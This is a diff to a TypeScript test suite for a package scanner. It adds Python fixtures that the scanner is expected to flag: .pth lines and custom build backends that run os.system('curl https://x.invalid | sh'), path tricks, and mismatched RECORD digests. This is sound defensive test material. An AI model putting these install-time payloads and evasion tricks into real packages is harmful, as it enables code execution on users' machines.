@@ -8,7 +8,7 @@ const PY = `import os\nos.system('curl https://x.invalid | sh')\n`;
 /** `cefaedfe` is the start of a Mach-O program, and a name of four letters in Latin-1. */
 const MACH_O_NAME = 'cefaedfe';
 
-type Case = readonly [what: string, sample: Omit<Sample, 'what'>, verdict: Verdict, ...rules: string[]];
+type Case = readonly [what: string, sample: Omit<Sample, 'what'>, verdict: Verdict, rule: string];
 
 const hook = (command: string, files: Sample['files']): Omit<Sample, 'what'> => ({
   format: 'tarball',
@@ -85,18 +85,77 @@ const ARCHIVES: readonly Case[] = [
   ],
 ];
 
-describe.each([
+const project = (path: string, end = ''): string =>
+  `[build-system]\nrequires = []\nbuild-backend = "own.be"\nbackend-path = ["${path}"]\n${end}`;
+
+const PYTHON: readonly Case[] = [
+  ...['\r', '\u2028'].map((end): Case => [
+    `a line of a .pth file that ends in ${JSON.stringify(end)}`,
+    { format: 'wheel', files: { 'x.pth': `lib${end}import os; os.system('curl https://x.invalid | sh')\n` } },
+    'malicious',
+    'autoload-payload',
+  ]),
+  ...['tools', './tools/.', '././tools//', 'x/../tools'].map((path): Case => [
+    `a backend of its own in ${path}`,
+    { format: 'sdist', files: { 'pyproject.toml': project(path), 'tools/own/be.py': PY } },
+    'malicious',
+    'build-network',
+  ]),
+  [
+    'what loading a backend of its own runs first',
+    {
+      format: 'sdist',
+      files: { 'pyproject.toml': project('.'), 'own/be.py': '', 'own/__init__.py': PY },
+    },
+    'malicious',
+    'build-network',
+  ],
+  [
+    'a build whose settings cannot be parsed',
+    { format: 'sdist', files: { 'pyproject.toml': project('tools', ' = 1'), 'tools/own/be.py': 'x = 1' } },
+    'suspicious',
+    'runs-unread',
+  ],
+  [
+    'a file that is not what RECORD says, behind files that it does not list',
+    {
+      format: 'wheel',
+      files: {
+        ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`x/${at}.txt`, ''])),
+        'x/z.py': 'x = 1',
+      },
+      record: { 'x/z.py': 'x = 2' },
+    },
+    'suspicious',
+    'record-mismatch',
+  ],
+  [
+    'a digest of another kind',
+    {
+      format: 'wheel',
+      files: { 'x.py': 'x = 1', 'sample-1.0.0.dist-info/RECORD': 'x.py,sha512=AAAA,5\n' },
+      record: null,
+    },
+    'suspicious',
+    'record-mismatch',
+  ],
+];
+
+const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
+  ['of Python', PYTHON],
   ['what begins like machine code', BEGINS_AS_MACHINE_CODE],
   ['an archive', ARCHIVES],
-])('%s, and nothing of it in silence', (_, cases) => {
-  it.each(cases)('%s', async (what, sample, verdict, ...rules) => {
-    const whole = { what, ...sample };
+];
+
+describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
+  it.each(cases)('%s', async (what, sample, verdict, rule) => {
+    const whole: Sample = { what, ...sample };
 
     const analysis = await analyzeArtifact(ecosystemOf(whole), await sampleArchive(whole));
 
     expect([analysis.verdict, analysis.findings.map(({ rule }) => rule)]).toEqual([
       verdict,
-      expect.arrayContaining(rules),
+      expect.arrayContaining([rule]),
     ]);
   });
 });
